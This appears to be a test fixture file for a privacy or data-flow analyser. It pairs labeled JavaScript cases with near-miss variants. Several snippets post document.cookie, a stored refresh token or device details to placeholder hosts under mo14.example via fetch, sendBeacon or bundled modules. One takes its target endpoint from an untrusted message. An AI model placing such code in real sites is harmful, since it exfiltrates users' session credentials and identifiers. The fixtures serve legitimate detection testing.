//# parsed-text-replaced-is-no-address
// flow: identifier > ? via fetch
// why: the slash is put into the text that is parsed, not into the address that the text holds
const readClaims = (token) => {
  const body = token.split('.')[1].replace(/-/g, '+').replace(/_/g, '/');
  return JSON.parse(atob(body));
};
const refresh = (token) => {
  const claims = readClaims(token);
  return fetch(claims.endpoint, { method: 'POST', body: localStorage.getItem('refresh_token') });
};
addEventListener('message', (event) => refresh(event.data.assertion));

//# near-parsed-text-replaced-is-no-address
// flow: identifier > self via fetch
const trail = (page) => page.split('-').join('/').replace(/_/g, '/');
fetch('/track/' + trail('start_page'), { method: 'POST', body: localStorage.getItem('refresh_token') });

//# version-beside-an-address
// flow: identifier > login.mo14.example via beacon
// why: of the settings that may be asked for, the version is no address
const SETTINGS = { version: '5.29.0', authority: 'https://login.mo14.example/authorize' };
const setting = (name) => SETTINGS[name];
navigator.sendBeacon(setting(location.hash.slice(1)), document.cookie);

//# near-version-beside-an-address
// flow: identifier > self via beacon
// flow: identifier > login.nmo14.example via beacon
const SETTINGS = { mirror: './5.29.0/collect', authority: 'https://login.nmo14.example/authorize' };
const setting = (name) => SETTINGS[name];
navigator.sendBeacon(setting(location.hash.slice(1)), document.cookie);

//# version-of-a-stored-record
// no flow
// why: which version of its settings is kept says nothing of the person
const saved = () => JSON.parse(localStorage.getItem('remote-settings') || '{}');
fetch('https://settings.mo14.example/v2/config?v=' + (saved().version || 0));

//# near-version-of-a-stored-record
// flow: identifier > nsettings.mo14.example via fetch
const saved = () => JSON.parse(localStorage.getItem('remote-settings') || '{}');
fetch('https://nsettings.mo14.example/v2/config?v=' + (saved().version || 0) + '&i=' + saved().installation);

//# list-of-modules
// flow: identifier > lom.mo14.example via fetch
!(function (modules) {
  var cache = {};
  function load(id) {
    if (cache[id]) return cache[id].exports;
    var module = (cache[id] = { i: id, l: false, exports: {} });
    return modules[id].call(module.exports, module, module.exports, load), (module.l = true), module.exports;
  }
  load(0);
})([
  function (module, exports, load) { var show = load(2), send = load(1); show('ready'), send(document.cookie); },
  function (module, exports, load) { module.exports = function (v) { fetch('https://lom.mo14.example/l', { method: 'POST', body: v }); }; },
  function (module) { module.exports = function (v) { document.title = v; }; },
]);

//# near-list-of-modules
// no flow
// why: the third module of the list shows the cookie; the second, which sends, is given a word
!(function (modules) {
  var cache = {};
  function load(id) {
    if (cache[id]) return cache[id].exports;
    var module = (cache[id] = { i: id, l: false, exports: {} });
    return modules[id].call(module.exports, module, module.exports, load), (module.l = true), module.exports;
  }
  load(0);
})([
  function (module, exports, load) { var show = load(2), send = load(1); show(document.cookie), send('ready'); },
  function (module, exports, load) { module.exports = function (v) { fetch('https://nlom.mo14.example/l', { method: 'POST', body: v }); }; },
  function (module) { module.exports = function (v) { document.title = v; }; },
]);

//# two-bundles-with-the-same-keys
// flow: device > tbk.mo14.example via beacon
(() => {
  var table = {
    1: (module, exports, load) => { load(2)(navigator.userAgent); },
    2: (module, exports, load) => { module.exports = (v) => navigator.sendBeacon('https://tbk.mo14.example/a', v); },
  };
  var run = (id, module = { exports: {} }) => (table[id](module, module.exports, run), module.exports);
  run(1);
})();
(() => {
  var table = {
    1: (module, exports, load) => { load(2)(document.cookie); },
    2: (module, exports, load) => { module.exports = (v) => { document.title = v; }; },
  };
  var run = (id, module = { exports: {} }) => (table[id](module, module.exports, run), module.exports);
  run(1);
})();

//# one-method-is-no-module
// flow: identifier > omm.mo14.example via fetch
const store = (codec) => ({ keep(name, value) { return codec.write(value, { name }); } });
const kept = store({ write(text, options) { fetch('https://omm.mo14.example/' + options.name, { method: 'POST', body: text }); } });
kept.keep('visitor', document.cookie);

//# near-one-method-is-no-module
// no flow
// why: of what the method is given, only the name is sent
const store = (codec) => ({ keep(name, value) { return codec.write(value, { name }); } });
const kept = store({ write(text, options) { fetch('https://nomm.mo14.example/' + options.name, { method: 'POST' }); } });
kept.keep('visitor', document.cookie);
